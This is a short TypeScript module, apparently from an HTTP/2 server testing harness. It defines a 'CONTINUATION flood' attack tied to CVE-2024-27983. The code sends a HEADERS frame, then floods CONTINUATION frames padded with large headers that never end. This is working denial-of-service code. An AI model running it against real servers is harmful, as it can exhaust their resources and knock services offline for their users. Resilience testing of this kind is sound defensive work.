import { type Attack, repeated } from "./attack.js";
import { frame, headerBlock, TYPE } from "./frames.js";

/** A header list that never ends (CVE-2024-27983 and its kin). */
export const continuationFlood: Attack = {
  name: "CONTINUATION flood",
  connections: 2,
  async run(connection) {
    await connection.begin();
    await connection.write(frame(TYPE.headers, 0, 1, headerBlock({ ":method": "POST" })));
    const more = frame(TYPE.continuation, 0, 1, headerBlock({ "x-more": "y".repeat(100) }));
    await connection.flood(repeated(more, 50), 50);
  },
};
